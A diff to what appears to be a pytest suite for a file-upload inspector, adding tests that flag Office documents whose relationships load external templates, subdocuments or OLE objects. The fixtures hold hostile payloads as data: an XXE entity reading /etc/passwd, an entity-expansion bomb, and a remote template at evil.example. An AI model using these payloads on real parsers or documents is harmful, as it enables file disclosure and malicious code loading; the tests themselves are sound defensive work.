@@ -166,9 +166,30 @@ LAUGHS = '<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 
 XXE = '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY f SYSTEM "file:///etc/passwd">]><workbook>&f;</workbook>'
 
 
+REMOTE = (
+    '<Relationships><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/%s" '
+    'Target="http://evil.example/x.dotm" TargetMode="External"/></Relationships>'
+)
+
+
+def test_a_hyperlink_out_of_a_document_is_accepted():
+    assert inspect(xlsx(also={"word/_rels/document.xml.rels": REMOTE % "hyperlink"})).kind == "xlsx"
+
+
 @pytest.mark.parametrize(
     ("content", "expected"),
     [
+        (xlsx(also={"word/_rels/settings.xml.rels": REMOTE % "attachedTemplate"}), "file.remote"),
+        (xlsx(also={"word/_rels/document.xml.rels": REMOTE % "subDocument"}), "file.remote"),
+        (
+            xlsx(
+                also={
+                    "word/_rels/a.xml.rels": '<Relationships><Relationship TargetMode="External" Target="x" '
+                    'Type="http://x/oleObject"/></Relationships>'
+                }
+            ),
+            "file.remote",
+        ),
         (bomb(300 * 1024 * 1024), "file.bomb"),
         (bomb(45 * 1024 * 1024), "file.bomb"),
         (lying(), "file.broken"),
